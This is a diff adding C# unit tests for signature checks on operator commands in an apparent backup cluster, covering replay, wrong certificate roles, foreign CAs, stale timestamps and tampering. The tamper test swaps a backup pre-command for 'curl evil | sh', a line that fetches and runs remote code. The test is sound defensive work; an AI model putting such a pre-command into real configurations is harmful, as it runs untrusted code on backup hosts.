@@ -1,0 +1,99 @@
+using System.Security.Cryptography.X509Certificates;
+using ActorBackup.Cluster.Trust;
+using ActorBackup.Protocol;
+using ActorBackup.Protocol.Trust;
+
+namespace ActorBackup.Cluster.Tests;
+
+/// <summary>
+/// The manager takes an operator-only command only as an operator's shell signed it: an operator certificate of the
+/// cell, fresh, never seen before, unchanged; not from a node relaying it, an integrator or a client host.
+/// </summary>
+public sealed class CallerSignatureTests : IDisposable
+{
+    private readonly TestTrust _cell = new();
+    private readonly NodeTrust _manager;
+    private readonly X509Certificate2 _operator, _integrator, _clientHost;
+    private static readonly DateTimeOffset Now = DateTimeOffset.UtcNow;
+    private static readonly DefineBackupSet Set = new() { Set = new BackupSetDefinition { Name = "etc", Client = "web1", Paths = { "/etc" }, PreCommand = "pg_dump > /var/db.sql" } };
+
+    public CallerSignatureTests()
+    {
+        var manager = CellIdentity.Of(CellRole.Node, "mgr", "", ["manager"]);
+        _manager = new NodeTrust(_cell.Dir, X509CertificateLoader.LoadCertificate(_cell.Ca.RawData), _cell.Issue(manager).Certificate, manager);
+        _operator = _cell.Issue(CellIdentity.Of(CellRole.Operator, "alice")).Certificate;
+        _integrator = _cell.Issue(CellIdentity.Of(CellRole.Integrator, "ci")).Certificate;
+        _clientHost = _cell.Issue(CellIdentity.Of(CellRole.Client, "web1", "web1")).Certificate;
+    }
+
+    public void Dispose()
+    {
+        _manager.Dispose();
+        _operator.Dispose();
+        _integrator.Dispose();
+        _clientHost.Dispose();
+        _cell.Dispose();
+    }
+
+    private object? Open(CallerSigned signed, out string refusal, CallerNonces? nonces = null, DateTimeOffset? at = null) =>
+        CallerSignatures.Open(_manager, signed, at ?? Now, nonces ?? new CallerNonces(), out refusal);
+
+    [Fact]
+    public void An_operators_signed_command_is_taken_once()
+    {
+        var nonces = new CallerNonces();
+        var signed = OperatorCommands.Sign(Set, _operator, Now);
+        Assert.Equal(Set, Open(signed, out _, nonces));
+        Assert.Null(Open(signed, out var again, nonces)); // replayed by a node that relayed it
+        Assert.Contains("given before", again);
+        Assert.NotNull(Open(OperatorCommands.Sign(Set, _operator, Now), out _, nonces)); // the same command signed anew
+    }
+
+    [Fact]
+    public void Only_an_operator_certificate_of_the_cell_signs_an_operator_only_command()
+    {
+        Assert.Null(Open(OperatorCommands.Sign(Set, _integrator, Now), out var byIntegrator));
+        Assert.Contains("only an operator certificate may give it", byIntegrator);
+        Assert.Null(Open(OperatorCommands.Sign(Set, _clientHost, Now), out var byClient));
+        Assert.Contains("only an operator certificate", byClient);
+        Assert.Null(Open(OperatorCommands.Sign(Set, _manager.Certificate, Now), out var byNode)); // a node relaying it in the operator's name
+        Assert.Contains("only an operator certificate", byNode);
+        using var elsewhere = new TestTrust("elsewhere");
+        using var stranger = elsewhere.Issue(CellIdentity.Of(CellRole.Operator, "alice")).Certificate;
+        Assert.Null(Open(OperatorCommands.Sign(Set, stranger, Now), out var foreign));
+        Assert.Contains("not from this cell's CA", foreign);
+    }
+
+    [Fact]
+    public void A_changed_stale_or_unlisted_command_is_refused()
+    {
+        var changed = OperatorCommands.Sign(Set, _operator, Now);
+        var evil = Set.Clone();
+        evil.Set.PreCommand = "curl evil | sh";
+        changed.Body = Google.Protobuf.ByteString.CopyFrom(Google.Protobuf.MessageExtensions.ToByteArray(evil));
+        Assert.Null(Open(changed, out var why));
+        Assert.Contains("does not check", why);
+
+        Assert.Null(Open(OperatorCommands.Sign(Set, _operator, Now - TimeSpan.FromMinutes(20)), out var stale));
+        Assert.Contains("clocks", stale);
+        Assert.Null(Open(OperatorCommands.Sign(Set, _operator, Now + TimeSpan.FromMinutes(20)), out _));
+
+        // Only the listed commands go signed: a job's end or a registration is not an operator's to give this way.
+        Assert.Null(Open(OperatorCommands.Sign(new JobFinished { Job = "1", Ok = true }, _operator, Now), out var unlisted));
+        Assert.Contains("not a command that goes signed", unlisted);
+        var unsigned = new CallerSigned { Type = DefineBackupSet.Descriptor.Name, Body = Google.Protobuf.MessageExtensions.ToByteString(Set), UnixMs = Now.ToUnixTimeMilliseconds() };
+        Assert.Null(Open(unsigned, out var none));
+        Assert.Contains("not signed", none);
+    }
+
+    [Fact]
+    public void The_nonces_remembered_are_bounded()
+    {
+        var nonces = new CallerNonces();
+        Assert.True(nonces.FirstSight("a", Now, Now));
+        Assert.False(nonces.FirstSight("a", Now, Now));
+        // After two windows it is forgotten (a command that old is refused as stale anyway).
+        Assert.True(nonces.FirstSight("b", Now + 3 * OperatorCommands.Window, Now + 3 * OperatorCommands.Window));
+        Assert.True(nonces.FirstSight("a", Now + 3 * OperatorCommands.Window, Now + 3 * OperatorCommands.Window));
+    }
+}
